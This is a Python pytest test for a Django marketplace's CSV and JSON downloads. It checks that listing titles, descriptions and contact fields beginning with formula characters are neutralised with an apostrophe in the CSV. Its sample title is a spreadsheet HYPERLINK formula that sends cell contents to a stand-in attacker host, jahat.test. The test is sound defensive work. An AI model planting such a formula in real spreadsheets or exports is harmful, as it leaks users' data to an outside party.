"""The marketplace's public CSV download writes no cell a spreadsheet would run as a formula:
a listing's title, description or contact starting with =, +, - or @ reaches the file behind
an apostrophe (core/spreadsheets.py). The JSON download is no spreadsheet: it keeps the text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://jahat.test/?d="&A1,"Lihat harga")'


def download(client, fmt):
    response = client.get(reverse("marketplace:download", args=[fmt], urlconf="portal.urls_public"))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_csv_neutralises_formulas_in_every_text_a_listing_publishes(
    malang, make_listing, client_for
):
    make_listing(
        malang,
        title=FORMULA,
        description="+62 341 551 000 untuk pesanan",
        contact_name="@SUM(1+1)",
        contact_phone="-0341 551",
    )
    client = client_for(None)
    (row,) = csv.DictReader(io.StringIO(download(client, "csv")))
    assert row["title"] == "'" + FORMULA
    assert row["description"] == "'+62 341 551 000 untuk pesanan"
    assert row["contact_name"] == "'@SUM(1+1)"
    assert row["contact_phone"] == "'-0341 551"
    assert row["region_name"] == "Kota Malang"  # an ordinary text is left as it is
    (listing,) = json.loads(download(client, "json"))
    assert listing["title"] == FORMULA
